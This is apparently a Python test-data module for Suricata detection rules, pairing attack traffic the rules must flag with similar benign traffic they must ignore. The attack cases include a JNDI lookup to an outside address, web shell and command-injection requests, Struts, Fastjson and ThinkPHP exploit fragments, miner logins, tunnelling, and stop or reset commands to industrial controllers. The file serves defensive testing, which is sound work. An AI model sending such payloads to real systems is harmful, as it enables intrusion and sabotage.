"""What our Suricata rules must see and what they must leave alone, as (name, packets) pairs; the sids are given without 1000000."""

from __future__ import annotations

import struct
from collections.abc import Callable

from scapy.layers.inet import IP
from scapy.layers.inet6 import ICMPv6EchoRequest, IPv6
from scapy.packet import Packet

from demo.packets import download, modbus_writes
from tests.rules.suricata_traffic import (
    CLOCK,
    cip,
    dnp3,
    echoes,
    ethernet,
    get,
    identity_numbers,
    iec104,
    knocks,
    modbus,
    mqtt_connect,
    mqtt_subscribe,
    post,
    questions,
    request,
    rtsp_refused,
    s7,
    sip_register,
    smb_tree_connect,
    tcp,
    tls_with_certificate,
    udp,
)

OUT, OUT6 = "203.0.113.66", "2001:db8:bad::66"
HOST, HOST6 = "10.40.0.11", "fd00:40::b"
PLC, PLC6 = "10.60.0.101", "fd00:60::65"
BOTH = ((HOST, PLC, OUT), (HOST6, PLC6, OUT6))
"""(a server of ours, a controller of ours, an outsider), IPv4 and IPv6."""

Made = Callable[[str, str, str], list[Packet]]
LABEL = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrt"
BASE64 = b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 8
FRAMED = b"11CD6A8758984163" + BASE64 + b"6C37AC826A2A04BC"
PRODUCT = b'{"@type":"Product","name":"x"}'
FRP_LOGIN = b"o" + struct.pack(">Q", 60) + b'{"version":"0.61.0","os":"linux","privilege_key":"a"}'
INNER = bytes(IPv6(src="2001:db8:77::1", dst="2001:db8:78::2") / ICMPv6EchoRequest(data=b"x" * 20))
TEREDO = bytes(IPv6(src="2001:0:4136:e378:8000:63bf:3fff:fdd2", dst="2001:db8:78::2") / ICMPv6EchoRequest(data=b"x" * 20))
JDBC = b'{"a":{"@type":"com.sun.rowset.Jdbc' + b'RowSetImpl","dataSourceName":"x"}}'
STRATUM = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.22.0","algo":["rx/0"]}}\n'
READ = ((0, modbus(b"\x03\x00\x00\x00\x02")), (1, modbus(b"\x03\x04\x00\x0a\x00\x14")))
ACCEPTED = (1, b"\x20\x02\x00\x00")
SUBSCRIBED = (1, b"\x90\x03\x00\x01\x00")

MUST: list[tuple[str, Made, set[int]]] = [
    ("script by wget", lambda us, plc, out: download(CLOCK, (us, 40_001), (out, 8080), "/k.sh", "Wget/1.21"), {1, 9}),
    ("web shell", lambda us, plc, out: get(out, us, "/u/a.php?cmd=whoami"), {2}),
    ("dns tunnel", lambda us, plc, out: questions(us, plc, [f"{LABEL}{n:04d}.t.vendor.example" for n in range(25)]), {3}),
    ("modbus write", lambda us, plc, out: modbus_writes(CLOCK, (us, 40_005), (plc, 502), ((40, 1),)), {4}),
    ("ssh knocking", lambda us, plc, out: knocks(out, us, 16), {5}),
    ("jndi", lambda us, plc, out: get(out, us, "/", "X-Api: ${jndi:ldap://203.0.113.66/a}"), {6}),
    ("telnet prompt", lambda us, plc, out: tcp(out, us, 23, (1, b"\r\nSW-CORE-01 login: ")), {7}),
    ("basic password", lambda us, plc, out: get(us, out, "/", "Authorization: Basic dTpw"), {8}),
    ("dnp3 cold restart", lambda us, plc, out: tcp(us, plc, 20_000, (0, dnp3(13))), {10}),
    ("dnp3 stop", lambda us, plc, out: tcp(us, plc, 20_000, (0, dnp3(18))), {11}),
    ("dnp3 operate burst", lambda us, plc, out: tcp(us, plc, 20_000, *[(0, dnp3(5))] * 12), {12}),
    ("s7 stop", lambda us, plc, out: tcp(us, plc, 102, (0, s7(0x29, b"\x00\x00\x00\x00\x00\x09P_PROGRAM"))), {13}),
    ("s7 download", lambda us, plc, out: tcp(us, plc, 102, (0, s7(0x1A))), {14}),
    ("s7 write", lambda us, plc, out: tcp(us, plc, 102, (0, s7(0x05))), {15}),
    ("iec 104 command", lambda us, plc, out: tcp(us, plc, 2404, (0, iec104(45, 6))), {16}),
    ("iec 104 reset", lambda us, plc, out: tcp(us, plc, 2404, (0, iec104(105, 6))), {17}),
    ("cip stop", lambda us, plc, out: tcp(us, plc, 44_818, (0, cip(7))), {18}),
    ("cip reset", lambda us, plc, out: tcp(us, plc, 44_818, (0, cip(5))), {19}),
    ("bacnet", lambda us, plc, out: udp(us, plc, 47_808, [bytes.fromhex("810a000c0104000505140900")]), {20}),
    (
        "modbus function 90",
        lambda us, plc, out: tcp(us, plc, 502, *READ, (0, modbus(b"\x5a\x00\x41", 2)), (1, modbus(b"\x5a\x00\xfe", 2))),
        {21},
    ),
    ("sip registrations", lambda us, plc, out: udp(out, us, 5060, [sip_register(n) for n in range(32)], source_port=5060), {22}),
    ("rtsp guessing", lambda us, plc, out: rtsp_refused(out, us, 22), {23}),
    ("mqtt anonymous", lambda us, plc, out: tcp(us, plc, 1883, (0, mqtt_connect()), ACCEPTED), {24}),
    (
        "mqtt all topics",
        lambda us, plc, out: tcp(us, plc, 1883, (0, mqtt_connect(b"u")), ACCEPTED, (0, mqtt_subscribe(b"#")), SUBSCRIBED),
        {25},
    ),
    ("default password", lambda us, plc, out: tcp(out, us, 2323, (1, b"Password: "), (0, b"xc3511\r\n")), {26}),
    ("camera command", lambda us, plc, out: request(out, us, "PUT /SDK/webLanguage HTTP/1.1\nHost: c", b"<x>$(id)</x>"), {27}),
    ("6in4", lambda us, plc, out: [ethernet() / IP(src=HOST, dst=OUT, proto=41) / IPv6(INNER)], {28}),
    ("teredo", lambda us, plc, out: udp(HOST, OUT, 3544, [TEREDO]), {29}),
    ("dns elsewhere", lambda us, plc, out: questions(us, out, [f"h{n}.example" for n in range(6)], port=5300), {30}),
    ("icmp tunnel", lambda us, plc, out: echoes(HOST, OUT, 22, 900), {31}),
    ("icmpv6 tunnel", lambda us, plc, out: echoes(HOST6, OUT6, 22, 900), {32}),
    ("frp with TLS", lambda us, plc, out: tcp(us, out, 7000, (0, b"\x17"), (0, bytes.fromhex("1603010005010000010000"))), {33}),
    (
        "frp login",
        lambda us, plc, out: tcp(us, out, 7000, (0, FRP_LOGIN)),
        {34},
    ),
    ("nps", lambda us, plc, out: tcp(us, out, 8024, (0, b"TST\x06\x00\x00\x000.26.9\x07\x00\x00\x000.26.10")), {35}),
    (
        "chisel",
        lambda us, plc, out: get(us, out, "/", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Protocol: chisel-v3"),
        {36},
    ),
    (
        "identity numbers",
        lambda us, plc, out: request(out, us, "GET /api/p HTTP/1.1\nHost: p", reply=identity_numbers(14), kind="application/json"),
        {37},
    ),
    ("behinder", lambda us, plc, out: post(out, us, "/up/x.jsp", BASE64 + b"=="), {38}),
    ("godzilla", lambda us, plc, out: post(out, us, "/a.php", b"pass=x", reply=FRAMED), {39}),
    ("fastjson", lambda us, plc, out: post(out, us, "/api/user", JDBC, "Content-Type: application/json"), {40}),
    ("shiro", lambda us, plc, out: get(out, us, "/", "Cookie: rememberMe=" + "QUJD" * 160), {41}),
    ("struts", lambda us, plc, out: post(out, us, "/x.action", b"a", "Content-Type: %{(#nike='multipart/form-data')}"), {42}),
    ("weblogic", lambda us, plc, out: post(out, us, "/wls-wsat/CoordinatorPortType", b"<soapenv><java version='1.8'>"), {43}),
    (
        "thinkphp",
        lambda us, plc, out: get(out, us, "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5"),
        {44},
    ),
    ("stratum", lambda us, plc, out: tcp(us, out, 3333, (0, STRATUM)), {45}),
    ("certificate ended", lambda us, plc, out: tls_with_certificate(out, us, -3), {46}),
    ("admin share", lambda us, plc, out: tcp(out, us, 445, *smb_tree_connect("\\\\fin-fs-01\\ADMIN$")), {47}),
    ("rdp", lambda us, plc, out: tcp(out, us, 3389, (0, bytes.fromhex("030000130ee000000000000100080003000000"))), {48}),
]  # fmt: skip

MUST_NOT: list[tuple[str, Made]] = [
    ("script by browser", lambda us, plc, out: get(us, out, "/a.sh", "User-Agent: Mozilla/5.0")),
    ("search", lambda us, plc, out: get(out, us, "/search?q=whoami")),
    ("few long names", lambda us, plc, out: questions(us, plc, [f"{LABEL}{n:04d}.t.vendor.example" for n in range(10)])),
    ("usual names", lambda us, plc, out: questions(us, plc, [f"host-{n}.example" for n in range(40)])),
    ("modbus read", lambda us, plc, out: tcp(us, plc, 502, *READ)),
    ("ssh as usual", lambda us, plc, out: knocks(out, us, 5)),
    ("the word jndi", lambda us, plc, out: get(out, us, "/", "X-Api: jndi")),
    ("port 23 without prompt", lambda us, plc, out: tcp(out, us, 23, (1, b"\r\nwelcome\r\n"))),
    ("bearer token", lambda us, plc, out: get(us, out, "/", "Authorization: Bearer abc")),
    ("harmless download", lambda us, plc, out: request(out, us, "GET /f.sh HTTP/1.1\nHost: p", reply=b"#!/bin/sh\necho hello\n")),
    ("dnp3 read", lambda us, plc, out: tcp(us, plc, 20_000, (0, dnp3(1, b"\x3c\x02\x06")))),
    ("dnp3 operate by hand", lambda us, plc, out: tcp(us, plc, 20_000, *[(0, dnp3(5))] * 3)),
    ("s7 read", lambda us, plc, out: tcp(us, plc, 102, (0, s7(0x04)))),
    ("s7 set-up", lambda us, plc, out: tcp(us, plc, 102, (0, s7(0xF0)))),
    ("iec 104 interrogation", lambda us, plc, out: tcp(us, plc, 2404, (0, iec104(100, 6)))),
    ("iec 104 confirmation", lambda us, plc, out: tcp(us, plc, 2404, (0, b"\x68\x04\x07\0\0\0"), (1, iec104(45, 7)))),
    ("cip read", lambda us, plc, out: tcp(us, plc, 44_818, (0, cip(1)))),
    ("bacnet read", lambda us, plc, out: udp(us, plc, 47_808, [bytes.fromhex("810a0011010400050a0c0c02000008194c")])),
    ("a few registrations", lambda us, plc, out: udp(out, us, 5060, [sip_register(n) for n in range(8)], 5, source_port=5060)),
    ("rtsp challenge", lambda us, plc, out: rtsp_refused(out, us, 4)),
    ("mqtt with user", lambda us, plc, out: tcp(us, plc, 1883, (0, mqtt_connect(b"meter")), ACCEPTED)),
    (
        "mqtt one topic",
        lambda us, plc, out: tcp(us, plc, 1883, (0, mqtt_connect(b"u")), ACCEPTED, (0, mqtt_subscribe(b"env/#")), SUBSCRIBED),
    ),
    ("telnet password of one's own", lambda us, plc, out: tcp(out, us, 2323, (1, b"Password: "), (0, b"Gx7-lanting!\r\n"))),
    ("camera page", lambda us, plc, out: get(out, us, "/SDK/webLanguage")),
    ("gre", lambda us, plc, out: [ethernet() / IP(src=HOST, dst=OUT, proto=47) / (b"\x00\x00\x08\x00" + bytes(24))]),
    ("udp 3544 of a game", lambda us, plc, out: udp(HOST, OUT, 3544, [b"\x31" * 60])),
    ("ntp elsewhere", lambda us, plc, out: udp(us, out, 5300, [b"\x23" + bytes(47)] * 6)),
    ("mdns", lambda us, plc, out: questions(us, out, [f"h{n}.local" for n in range(8)], port=5353)),
    ("ping", lambda us, plc, out: echoes(us, out, 30, 56)),
    ("large pings, few", lambda us, plc, out: echoes(us, out, 8, 1200)),
    ("tls", lambda us, plc, out: tcp(us, out, 7000, (0, bytes.fromhex("1603010005010000010000")))),
    ("text that begins with o", lambda us, plc, out: tcp(us, out, 7000, (0, b'ok {"privilege_key": "a"}'))),
    ("TST of something else", lambda us, plc, out: tcp(us, out, 8024, (0, b"TST command\r\n"))),
    ("websocket chat", lambda us, plc, out: get(us, out, "/", "Upgrade: websocket", "Sec-WebSocket-Protocol: chat")),
    (
        "three identity numbers",
        lambda us, plc, out: request(out, us, "GET /api/p HTTP/1.1\nHost: p", reply=identity_numbers(3), kind="application/json"),
    ),
    ("form", lambda us, plc, out: post(out, us, "/up/x.jsp", b"a=" + BASE64 + b"&b=1")),
    ("upload of text to a page of no program", lambda us, plc, out: post(out, us, "/up/x", BASE64)),
    ("digest as answer", lambda us, plc, out: post(out, us, "/a.php", b"pass=x", reply=b"11cd6a8758984163")),
    ("json of a shop", lambda us, plc, out: post(out, us, "/api", PRODUCT, "Content-Type: application/ld+json")),
    ("remember me as usual", lambda us, plc, out: get(out, us, "/", "Cookie: rememberMe=" + "QUJD" * 40)),
    ("multipart", lambda us, plc, out: post(out, us, "/x.action", b"--b--", "Content-Type: multipart/form-data; boundary={b}")),
    ("soap", lambda us, plc, out: post(out, us, "/services/x", b"<soapenv><java version='1.8'>")),
    ("thinkphp page", lambda us, plc, out: get(out, us, "/index.php?s=/index/news/read&id=3")),
    ("json-rpc", lambda us, plc, out: tcp(us, out, 3333, (0, b'{"id":1,"method":"getBalance","params":["x"]}\n'))),
    ("certificate in force", lambda us, plc, out: tls_with_certificate(out, us, 200)),
    ("shared folder", lambda us, plc, out: tcp(out, us, 445, *smb_tree_connect("\\\\fin-fs-01\\public"))),
    ("rdp inside", lambda us, plc, out: tcp(us, plc, 3389, (0, bytes.fromhex("030000130ee000000000000100080003000000")))),
]  # fmt: skip
